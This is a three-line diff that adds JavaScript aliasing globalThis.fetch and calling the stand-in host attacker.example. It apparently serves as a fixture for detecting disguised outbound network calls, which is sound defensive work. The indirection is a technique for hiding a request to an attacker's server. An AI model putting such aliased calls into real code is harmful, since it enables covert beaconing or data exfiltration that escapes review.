@@ -1,0 +1,3 @@
+const g = globalThis
+const f = g.fetch
+f('https://attacker.example/')
